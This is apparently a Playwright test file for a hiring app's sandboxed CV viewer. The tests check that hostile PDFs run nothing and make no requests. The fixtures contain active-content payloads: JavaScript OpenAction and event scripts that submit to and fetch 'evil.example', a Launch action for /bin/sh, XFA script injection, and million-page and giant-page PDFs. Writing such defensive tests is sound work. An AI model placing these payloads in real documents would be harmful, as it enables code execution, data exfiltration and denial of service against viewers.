import { pdfOf, pdfStream, pdfWith } from '../documents.js';
import { newCompany } from './support/api.js';
import { expect, signIn, test, type Page } from './support/app.js';
import { addCandidates } from './support/candidates.js';
import { inLanguages } from './support/looks.js';
import { newOpenRole } from './support/roles.js';
import { sendCv, watch } from './support/cv-preview.js';

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A PDF of a million identical pages, in a tree of two levels. */
const MILLION = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  `<< /Type /Pages /Kids [${'6 0 R '.repeat(1000)}] /Count 1000000 >>`,
  '<< /Type /Page /Parent 6 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  pdfStream('BT /F1 40 Tf 72 700 Td (Again) Tj ET'),
  FONT,
  `<< /Type /Pages /Parent 2 0 R /Kids [${'3 0 R '.repeat(1000)}] /Count 1000 >>`,
]);

/** A page with the maximum numeric size. */
const GIANT = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 3] /Contents 4 0 R /Resources << >> >>',
  pdfStream('0 0 1000000000 3 re f'),
]);

const SCRIPT = String.raw`<< /S /JavaScript /JS (app.alert\("ran"\); this.submitForm\("https://evil.example/"\); fetch\("https://evil.example/"\)) >>`;
/** PDFs that trigger actions: by scripts, links that open automatically, other programs and forms. */
const ACTIVE: Record<string, Buffer> = {
  script: pdfWith('Calm', `/OpenAction ${SCRIPT} `),
  events: pdfWith(
    'Calm',
    `/AA << /WC ${SCRIPT} /DP ${SCRIPT} >> /Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >> `,
  ),
  address: pdfWith('Calm', '/OpenAction << /S /URI /URI (https://evil.example/) >> '),
  program: pdfWith('Calm', '/OpenAction << /S /Launch /F (/bin/sh) >> '),
  form: pdfWith(
    'Calm',
    `/AcroForm << /Fields [] /XFA [(template) (<script>alert\\(1\\)</script>)] >> /OpenAction ${SCRIPT} `,
  ),
};

/** Opens a PDF in a separate viewer, and returns the viewer's final message. */
const openIn = (page: Page, content: Buffer): Promise<string> =>
  page.evaluate(
    (text) =>
      new Promise<string>((resolve) => {
        const bytes = Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0)).buffer;
        const frame = document.createElement('iframe');
        frame.sandbox.add('allow-scripts');
        frame.src = '/cv-viewer';
        frame.style.cssText = 'inset: 0; position: fixed; width: 600px; height: 600px';
        const said: string[] = [];
        const end = (last: string) => {
          clearTimeout(timer);
          removeEventListener('message', listen);
          frame.remove();
          resolve([...said, last].join(' '));
        };
        const listen = ({ source, data }: MessageEvent) => {
          if (source !== frame.contentWindow) return;
          if (data.type === 'ready') {
            const labels = { label: 'CV', pageLabel: 'Page {page}', language: 'en', isRtl: false };
            frame.contentWindow!.postMessage({ type: 'open', bytes, ...labels }, '*', [bytes]);
          } else if (data.type === 'opened') said.push(`${data.pages}/${data.shown}`);
          else if (data.type === 'failed') end(data.problem);
          else if (data.type === 'drawn') end('drawn');
        };
        const timer = setTimeout(() => end('slow'), 30_000);
        addEventListener('message', listen);
        document.body.append(frame);
      }),
    content.toString('base64'),
  );

// A test sends this request from within the frame, and it must fail.
test.use({ meant: /(Connecting to|Fetch API cannot load|connect-src) .*\/config\.json/ });

test('files that cannot be shown give the reason', async ({ page }) => {
  const { admin } = await newCompany();
  const role = await newOpenRole(admin.email, { title: 'Baker' });
  const [broken, odt] = await addCandidates(admin.email, role, ['Ana Berg', 'Ben Cole']);
  await sendCv(admin.email, broken!, 'cv.pdf', Buffer.from('%PDF-1.7\nA CV\n%%EOF\n'));
  await signIn(page, admin.email, `/page-application?id=${broken}`);
  const panel = page.getByRole('region', { name: 'CV', exact: true });
  await panel.getByRole('button', { name: 'View the CV' }).click();
  await expect(panel.getByRole('alert')).toContainText('The file is damaged');
  await panel.getByRole('button', { name: 'Show the text' }).click();
  await expect(panel).toContainText('The text could not be read');
  await inLanguages(page, 'cv-broken', 0);
  expect(odt).toBeTruthy();
});

test('a PDF runs nothing and requests nothing, and a limited number of a million pages is shown', async ({
  page,
}) => {
  test.setTimeout(300_000);
  const { admin } = await newCompany();
  await signIn(page, admin.email, '/page-settings');
  const seen = watch(page);
  for (const [name, content] of Object.entries(ACTIVE)) {
    expect([name, await openIn(page, content)]).toEqual([name, '1/1 drawn']);
  }
  expect(await openIn(page, MILLION)).toBe('1000000/100 drawn');
  expect(await openIn(page, GIANT)).toMatch(/^1\/1 drawn$|^broken$/);
  expect(await openIn(page, Buffer.alloc(0))).toBe('broken');
  expect(seen).toEqual([]);
});

test('damaged PDFs end in a defined state', async ({ page }) => {
  test.setTimeout(300_000);
  const { admin } = await newCompany();
  await signIn(page, admin.email, '/page-settings');
  const seen = watch(page);
  const seed = Number(process.env.FUZZ_SEED ?? 7);
  let state = seed;
  const random = (below: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
    return state % below;
  };
  const sources = [...Object.values(ACTIVE), GIANT];
  for (let turn = 0; turn < 40; turn++) {
    const content = Buffer.from(sources[turn % sources.length]!);
    for (let times = 1 + random(30); times > 0; times--) content[random(content.length)] = random(256);
    const cut = turn % 4 === 0 ? content.subarray(0, random(content.length)) : content;
    const end = await openIn(page, cut);
    expect([seed, turn, end]).toEqual([
      seed,
      turn,
      expect.stringMatching(/drawn$|^broken$|^password$|broken$/),
    ]);
  }
  expect(seen).toEqual([]);
});
